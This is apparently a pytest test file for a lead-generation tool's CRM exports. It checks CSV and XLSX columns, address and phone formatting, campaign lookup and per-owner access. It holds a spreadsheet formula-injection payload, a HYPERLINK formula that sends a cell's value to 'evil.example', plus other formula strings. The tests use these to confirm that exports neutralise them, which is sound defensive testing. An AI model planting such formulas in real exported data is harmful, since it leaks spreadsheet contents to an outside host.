"""Exports a CRM accepts (issue 15): the CSV and XLSX files read back with csv and openpyxl."""

from __future__ import annotations

import csv
import io
import json
import time
from datetime import datetime
from typing import Any

import openpyxl
import pytest

from prospectpro.config import Settings
from prospectpro.domain.business import Business, lead_provenance
from prospectpro.domain.campaign import CampaignRequest
from prospectpro.domain.clock import utcnow
from prospectpro.errors import NotFound
from prospectpro.pipeline.results import lead_row
from prospectpro.providers.protocols import Enrichment
from prospectpro.services.export import (
    CRM_COLUMNS,
    XLSX_MEDIA_TYPE,
    category_label,
    compose_address,
    find_campaign_id,
    leads_csv,
    leads_json,
    leads_xlsx,
    list_campaigns,
    load_export,
    neutralize,
)
from prospectpro.services.submissions import submit_campaign
from prospectpro.store.db import Database
from prospectpro.store.leads import store_leads
from prospectpro.store.schema import LOCAL_USER_ID, job_candidates

SETTINGS = Settings(import_bundled_places=False)
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'

SEATTLE = Business(
    source="osm",
    source_id="node/101",
    name="Pike Place Coffee",
    category="amenity=cafe",
    street="Pike St",
    housenumber="100",
    postcode="98101",
    city="Seattle",
    country="US",
    phone="+1 206-555-0100",
    website="https://www.pikecoffee.example/",
    latitude=47.6097,
    longitude=-122.3422,
    also_from=("google:ChIJpike",),
)
HELSINKI = Business(
    source="osm",
    source_id="way/202",
    name="Café Aalto",
    category="amenity=cafe",
    street="Mannerheimintie",
    housenumber="20",
    postcode="00100",
    city="Helsinki",
    country="FI",
    phone="09 1214446",
    website="http://www.cafeaalto.fi/",
    latitude=60.168,
    longitude=24.943,
)
GOOGLE_ONLY = Business(
    source="google",
    source_id="ChIJ-evil",
    name=EVIL,
    category="coffee_roastery",
    formatted_address="Somewhere 1, Tampere",
    country="FI",
    rating=4.6,
    review_count=213,
)


def _campaign(db: Database, businesses: list[tuple[Business, Enrichment]]) -> tuple[str, str]:
    """A campaign whose job selected these businesses and stored them as leads, as the pipeline does."""
    job = submit_campaign(db, SETTINGS, LOCAL_USER_ID, CampaignRequest(business_type="cafe", location="60.17,24.94"))
    job_id, campaign_id = job.job.id, job.campaign_id
    now = utcnow()
    if not businesses:
        return job_id, campaign_id
    with db.write() as conn:
        conn.execute(
            job_candidates.insert(),
            [
                {
                    "job_id": job_id,
                    "source": b.source,
                    "source_id": b.source_id,
                    "position": i,
                    "fingerprint": f"fp{i}",
                    "business": b.to_dict(),
                    "selected": True,
                }
                for i, (b, _) in enumerate(businesses)
            ],
        )
        store_leads(
            conn,
            LOCAL_USER_ID,
            campaign_id,
            [{"dedup_key": f"fp{i}", **lead_row(b, e, 90 - i, {"name": 10})} for i, (b, e) in enumerate(businesses)],
            now,
        )
    return job_id, campaign_id


def _rows(data: Any) -> list[dict[str, str]]:
    text = leads_csv(data)
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))


@pytest.fixture
def exported(any_db: Database) -> tuple[Database, str, str]:
    job_id, campaign_id = _campaign(
        any_db,
        [
            (
                SEATTLE,
                Enrichment(
                    email="hello@pikecoffee.example",
                    email_source="website:https://pikecoffee.example/contact",
                    email_status="valid",
                    socials=(
                        {
                            "url": "https://www.instagram.com/pikecoffee",
                            "source": "website:https://pikecoffee.example/",
                        },
                        {"url": "https://www.facebook.com/pikecoffee", "source": "website:https://pikecoffee.example/"},
                    ),
                ),
            ),
            (HELSINKI, Enrichment()),
            (GOOGLE_ONLY, Enrichment(email="@SUM(1+1)", email_source="hunter")),
        ],
    )
    return any_db, job_id, campaign_id


def test_csv_columns_phones_addresses_and_links(exported: tuple[Database, str, str]) -> None:
    db, _, campaign_id = exported
    rows = _rows(load_export(db, campaign_id, LOCAL_USER_ID))
    assert tuple(rows[0]) == CRM_COLUMNS
    us, fi, google = rows
    # Addresses in each country's own order, and their parts.
    assert us["address"] == "100 Pike St, Seattle 98101"  # no source gave the state: none is invented
    assert (us["street"], us["house_number"], us["postcode"], us["city"], us["region"], us["country"]) == (
        "Pike St", "100", "98101", "Seattle", "", "US",
    )  # fmt: skip
    assert fi["address"] == "Mannerheimintie 20, 00100 Helsinki"
    # Phone numbers as they are: displayed and E.164, no apostrophe.
    assert us["phone"] == "+1 206-555-0100" and us["phone_e164"] == "+12065550100"
    assert fi["phone"] == "+358 9 1214446" and fi["phone_e164"] == "+35891214446"
    # Readable categories; the website's domain; e-mail with status and source.
    assert us["category"] == fi["category"] == "Cafe" and google["category"] == "Coffee roastery"
    assert us["domain"] == "pikecoffee.example" and fi["domain"] == "cafeaalto.fi"
    assert (us["email"], us["email_status"], us["email_source"]) == (
        "hello@pikecoffee.example", "valid", "website:https://pikecoffee.example/contact",
    )  # fmt: skip
    assert fi["email"] == fi["email_status"] == fi["email_source"] == ""  # nothing found, nothing written
    assert us["social_profiles"] == "https://www.instagram.com/pikecoffee https://www.facebook.com/pikecoffee"
    assert fi["social_profiles"] == ""
    # A link to each source's record.
    assert us["osm_url"] == "https://www.openstreetmap.org/node/101"
    assert us["google_maps_url"] == "https://www.google.com/maps/place/?q=place_id:ChIJpike"
    assert fi["osm_url"] == "https://www.openstreetmap.org/way/202" and fi["google_maps_url"] == ""
    assert us["sources"] == "osm:node/101 google:ChIJpike website:https://pikecoffee.example/contact"
    # Rating and reviews only where a source gave them.
    assert (google["rating"], google["review_count"]) == ("4.6", "213") and us["rating"] == ""
    # The formula payloads are neutralised; a western longitude stays a number.
    assert google["business_name"] == "'" + EVIL and google["email"] == "'@SUM(1+1)"
    assert google["address"] == "Somewhere 1, Tampere" and google["street"] == ""
    assert us["longitude"] == "-122.3422"
    assert {r["campaign_id"] for r in rows} == {campaign_id}
    assert all(datetime.fromisoformat(r["found_at"].replace("Z", "+00:00")).tzinfo for r in rows)


def test_xlsx_has_typed_cells_a_frozen_header_and_filters(exported: tuple[Database, str, str]) -> None:
    db, _, campaign_id = exported
    book = openpyxl.load_workbook(io.BytesIO(leads_xlsx(load_export(db, campaign_id, LOCAL_USER_ID))))
    sheet = book["Leads"]
    header = [c.value for c in sheet[1]]
    assert tuple(header) == CRM_COLUMNS
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:{openpyxl.utils.get_column_letter(len(CRM_COLUMNS))}4"
    rows = [dict(zip(header, (c for c in r), strict=True)) for r in sheet.iter_rows(min_row=2)]
    us, fi, google = rows
    assert us["confidence_score"].value == 90 and us["confidence_score"].data_type == "n"
    assert isinstance(us["latitude"].value, float) and us["longitude"].value == -122.3422
    assert isinstance(us["found_at"].value, datetime)
    assert google["rating"].value == 4.6 and google["review_count"].value == 213
    # Text is text: the phone as written, the formula payload stored as a string and never evaluated.
    assert fi["phone"].value == "+358 9 1214446" and fi["phone"].data_type == "s"
    assert us["phone_e164"].value == "+12065550100" and us["phone_e164"].data_type == "s"
    assert google["business_name"].value == EVIL and google["business_name"].data_type == "s"
    assert fi["postcode"].value == "00100" and fi["postcode"].data_type == "s"  # a postcode keeps its zero
    assert fi["address"].value == "Mannerheimintie 20, 00100 Helsinki"
    assert us["osm_url"].hyperlink.target == "https://www.openstreetmap.org/node/101"
    assert fi["email"].value is None  # empty, not ""


def test_an_empty_campaign_exports_its_header(any_db: Database) -> None:
    _, campaign_id = _campaign(any_db, [])
    data = load_export(any_db, campaign_id, LOCAL_USER_ID)
    assert leads_csv(data).removeprefix("\ufeff").splitlines() == [",".join(CRM_COLUMNS)]
    sheet = openpyxl.load_workbook(io.BytesIO(leads_xlsx(data)))["Leads"]
    assert sheet.max_row == 1 and [c.value for c in sheet[1]] == list(CRM_COLUMNS)
    assert json.loads(leads_json(data.campaign, data.leads))["leads"] == []


def test_parts_that_no_longer_make_the_address_are_not_brought_back(any_db: Database) -> None:
    """A lead whose address was cleared (Google's terms) or changed since: the record's parts stay out."""
    from sqlalchemy import update

    from prospectpro.store.schema import leads

    _, campaign_id = _campaign(any_db, [(HELSINKI, Enrichment())])
    with any_db.write() as conn:
        conn.execute(update(leads).where(leads.c.campaign_id == campaign_id).values(address=None))
    (row,) = _rows(load_export(any_db, campaign_id, LOCAL_USER_ID))
    assert (row["address"], row["street"], row["postcode"], row["city"]) == ("", "", "", "")
    assert row["country"] == "FI" and row["business_name"] == "Café Aalto"


def test_export_by_campaign_id_job_id_or_unique_prefix(exported: tuple[Database, str, str]) -> None:
    db, job_id, campaign_id = exported
    for given in (campaign_id, job_id, campaign_id[:8], job_id[:6].upper(), f"  {job_id[:10]} "):
        assert find_campaign_id(db, given, LOCAL_USER_ID) == campaign_id
    with pytest.raises(NotFound, match="at least 6 characters"):
        find_campaign_id(db, campaign_id[:5], LOCAL_USER_ID)
    with pytest.raises(NotFound, match="not found"):
        find_campaign_id(db, "ffffffff-0000", LOCAL_USER_ID)
    with pytest.raises(NotFound):  # another owner's campaign is "not found"
        find_campaign_id(db, campaign_id, "someone-else")
    found, total = list_campaigns(db, LOCAL_USER_ID)
    assert total == 1 and found[0]["id"] == campaign_id and found[0]["results_count"] == 0


def test_an_ambiguous_prefix_names_the_candidates(db: Database) -> None:
    from sqlalchemy import select

    from prospectpro.store.schema import campaigns

    _, campaign_id = _campaign(db, [])
    with db.write() as conn:
        row = dict(conn.execute(select(campaigns).where(campaigns.c.id == campaign_id)).one()._mapping)
        for ident in ("abcdef01-0000-4000-8000-000000000001", "abcdef02-0000-4000-8000-000000000002"):
            conn.execute(campaigns.insert().values({**row, "id": ident}))
    with pytest.raises(NotFound, match="ambiguous: campaign abcdef01-.*; campaign abcdef02-.*; give more characters"):
        find_campaign_id(db, "abcdef0", LOCAL_USER_ID)
    assert find_campaign_id(db, "abcdef02", LOCAL_USER_ID) == "abcdef02-0000-4000-8000-000000000002"


@pytest.mark.parametrize(
    ("value", "phone", "expected"),
    [
        ("+358 9 1214446", True, "+358 9 1214446"),
        ("+1 (206) 555-0100", True, "+1 (206) 555-0100"),
        ("+358 9 1214446", False, "'+358 9 1214446"),  # in any other column, a leading + is neutralised
        ("=1+2", True, "'=1+2"),
        ("-2+3", True, "'-2+3"),  # too few digits to be a phone number
        ("+1 2 3 =CMD()", True, "'+1 2 3 =CMD()"),
        ("-74.006", False, "-74.006"),
        ("@SUM(A1)", False, "'@SUM(A1)"),
        ("\t=1", False, "'\t=1"),
    ],
)
def test_neutralize(value: str, phone: bool, expected: str) -> None:
    assert neutralize(value, phone=phone) == expected


def test_addresses_in_each_countrys_order() -> None:
    parts = {"street": "Pike St", "housenumber": "100", "postcode": "98101", "city": "Seattle"}
    assert compose_address(**parts, region="Washington", country="US") == "100 Pike St, Seattle, WA 98101"
    assert compose_address(**parts, region="WA", country="US") == "100 Pike St, Seattle, WA 98101"
    fi = {"street": "Mannerheimintie", "housenumber": "20", "postcode": "00100", "city": "Helsinki"}
    assert compose_address(**fi, region=None, country="FI") == "Mannerheimintie 20, 00100 Helsinki"
    de = {"street": "Unter den Linden", "housenumber": "1", "postcode": "10117", "city": "Berlin"}
    assert compose_address(**de, region=None, country="DE") == "Unter den Linden 1, 10117 Berlin"
    assert compose_address(**parts, region=None, country=None) == "Pike St 100, 98101 Seattle"
    assert compose_address(street=None, housenumber=None, postcode=None, city=None, region=None, country="US") is None


def test_category_labels() -> None:
    assert category_label("amenity=cafe") == "Cafe"
    assert category_label("healthcare=dentist") == category_label("amenity=dentist") == "Dentist"
    assert category_label("cafe") == "Cafe"
    assert category_label("shop=something_new") == "Something new"
    assert category_label(None) is None


def test_lead_row_provenance_is_what_the_export_reads() -> None:
    """The e-mail's source comes from the lead's own field_sources when no column holds it."""
    row = lead_row(HELSINKI, Enrichment(email="a@cafeaalto.fi", email_source="osm"), 80, {})
    assert row["field_sources"]["email"]["source"] == "osm"
    assert lead_provenance(HELSINKI)[0]["address"]["source"] == "osm:way/202"


def test_the_api_serves_leads_xlsx_and_leads_csv(tmp_path: Any) -> None:
    import httpx

    from tests.api.conftest import start_server
    from tests.api.helpers import CAFES

    server = start_server(tmp_path, workers=1)
    try:
        with server.client() as client:
            body = client.post("/api/v1/campaigns", json={**CAFES, "max_results": 3}).json()
            token, campaign_id = body["session_token"], body["campaign_id"]
        with server.client(token) as client:
            deadline = time.monotonic() + 60
            while client.get(f"/api/v1/jobs/{body['job_id']}").json()["status"] != "completed":
                assert time.monotonic() < deadline, "the campaign did not complete"
                time.sleep(0.05)
            response = client.get(f"/api/v1/campaigns/{campaign_id}/leads.xlsx")
            assert response.status_code == 200
            assert response.headers["content-type"] == XLSX_MEDIA_TYPE
            assert response.headers["content-disposition"] == f'attachment; filename="leads-{campaign_id}.xlsx"'
            sheet = openpyxl.load_workbook(io.BytesIO(response.content))["Leads"]
            assert [c.value for c in sheet[1]] == list(CRM_COLUMNS) and sheet.max_row == 4
            text = client.get(f"/api/v1/campaigns/{campaign_id}/leads.csv").content.decode("utf-8-sig")
            rows = list(csv.DictReader(io.StringIO(text)))
            assert [r["business_name"] for r in rows] == [c.value for c in sheet["A"][1:]]
            assert all(not r["phone"].startswith("'") for r in rows)
            missing = client.get("/api/v1/campaigns/00000000-0000-4000-8000-000000000000/leads.xlsx")
            assert missing.status_code == 404
        # Without the session that owns it, the campaign is "not found", as for every other read.
        assert httpx.get(f"{server.url}/api/v1/campaigns/{campaign_id}/leads.xlsx").status_code == 404
    finally:
        server.stop()
